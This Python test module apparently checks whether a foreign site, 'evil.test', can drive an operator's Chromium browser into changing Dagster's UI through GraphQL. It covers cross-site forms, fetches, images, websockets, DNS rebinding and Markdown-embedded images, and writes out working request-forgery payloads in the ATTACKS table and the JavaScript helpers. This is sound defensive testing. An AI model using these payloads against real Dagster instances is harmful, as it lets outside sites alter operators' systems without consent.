"""What a foreign website can make an operator's browser send to Dagster's UI, in Chromium.

The site is ``evil.test``, which the browser looks up on this machine: so it can also stand for a
name that was pointed here (DNS rebinding). Each attack tries the same harmless change, of a switch
that is easy to read.
"""

import contextlib
import json
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Final
from urllib.parse import urlsplit

from playwright.sync_api import Browser, BrowserContext, Error, Page

from voiceai_pipeline_tests.support.receivers import serving
from voiceai_pipeline_tests.support.up import graphql

# In a page of the foreign site. T is the GraphQL address of Dagster's UI, Q the same with the
# mutation in its query, B the mutation as JSON, D the address of the UI.
ATTACKS: Final = {
    "an image": "new Image().src = Q",
    "a script": "add('script', {src: Q})",
    "a style sheet": "add('link', {rel: 'stylesheet', href: Q})",
    "a frame": "add('iframe', {src: Q})",
    "a link that is followed": "location = Q",
    "a window": "open(Q)",
    "a form": "form(Q, 'application/x-www-form-urlencoded')",
    "a form of plain text": "form(Q, 'text/plain')",
    "a form of several parts": "form(Q, 'multipart/form-data')",
    "a fetch without CORS": "send({mode: 'no-cors'}, 'text/plain;application/json')",
    "a fetch of JSON": "send({}, 'application/json')",
    "a fetch that outlives its page": "send({mode: 'no-cors', keepalive: true}, "
    "'text/plain;application/json')",
    "a form that reports an asset": "form(`${D}/report_asset_materialization/evil`, 'text/plain')",
    "a websocket": "socket(T.replace('http', 'ws'))",
}

REBOUND: Final = {
    "a query under a name that was pointed here": "send({}, 'application/json')",
    "an image under a name that was pointed here": "new Image().src = Q",
    "a websocket under a name that was pointed here": "socket(T.replace('http', 'ws'))",
}
"""In a page of the same host and port as the UI, which the browser takes for the same site."""

INSIDE: Final = {"an image in a text of the UI": "new Image().src = Q"}
"""In the UI itself, as a business's name in Markdown could ask for."""

_TOOLS: Final = """
const T = %(target)s, D = %(dagster)s, M = %(mutation)s;
const Q = `${T}?query=${encodeURIComponent(M)}`, B = JSON.stringify({query: M});
const add = (tag, fields) => {
  document.body.append(Object.assign(document.createElement(tag), fields));
};
const form = (action, enctype) => {
  const form = Object.assign(document.createElement('form'), {action, enctype, method: 'post'});
  document.body.append(form);
  form.submit();
};
const send = (options, type) => fetch(T, {
  method: 'POST', credentials: 'include', headers: {'content-type': type}, body: B, ...options,
}).catch(() => {});
const socket = url => {
  const opened = new WebSocket(url, 'graphql-ws');
  opened.onopen = () => { document.title = 'opened' };
};
"""


class Attacker:
    """The foreign site, and the switch that it is after.

    Args:
        dagster: where the browser finds Dagster's UI, with its prefix.
    """

    def __init__(self, browser: Browser, dagster: str) -> None:
        self._browser = browser
        self._dagster = dagster

    def succeeds(self, *names: str) -> bool:
        """Whether one of these attacks, all tried at once, changed or read something."""
        before = self._state()
        mutation = f"mutation {{ setAutoMaterializePaused(paused: {str(not before[0]).lower()}) }}"
        with _foreign_site() as site, self._browser.new_context() as context:
            tabs = [self._try(context, name, mutation, site) for name in names]
            for tab in tabs:
                tab.wait_for_timeout(200)
            was_opened = any(tab.title() == "opened" for tab in tabs)
        return was_opened or self._state() != before

    def _try(self, context: BrowserContext, name: str, mutation: str, site: str) -> Page:
        tab = context.new_page()
        parts = urlsplit(self._dagster)
        address, dagster, script = site, self._dagster, ATTACKS.get(name, "")
        if name in REBOUND:
            dagster = f"http://evil.test:{parts.port}{parts.path}"
            address, script = dagster, REBOUND[name]
        elif name in INSIDE:
            address, script = dagster, INSIDE[name]
        tab.goto(address, wait_until="commit")
        values = {"target": f"{dagster}/graphql", "dagster": dagster, "mutation": mutation}
        tools = _TOOLS % {key: json.dumps(value) for key, value in values.items()}
        with contextlib.suppress(Error):  # the tab went elsewhere
            tab.evaluate(f"async () => {{ {tools} await ({script}); }}")
        return tab

    def _state(self) -> tuple[bool, int]:
        query = """{ instance { autoMaterializePaused }
            assetsOrError { ... on AssetConnection { nodes { id } } } }"""
        found = graphql(self._dagster, query)
        return found["instance"]["autoMaterializePaused"], len(found["assetsOrError"]["nodes"])


@contextmanager
def _foreign_site() -> Iterator[str]:
    """An empty page of another website."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            """Nothing."""

    with serving(ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as port:
        yield f"http://evil.test:{port}"
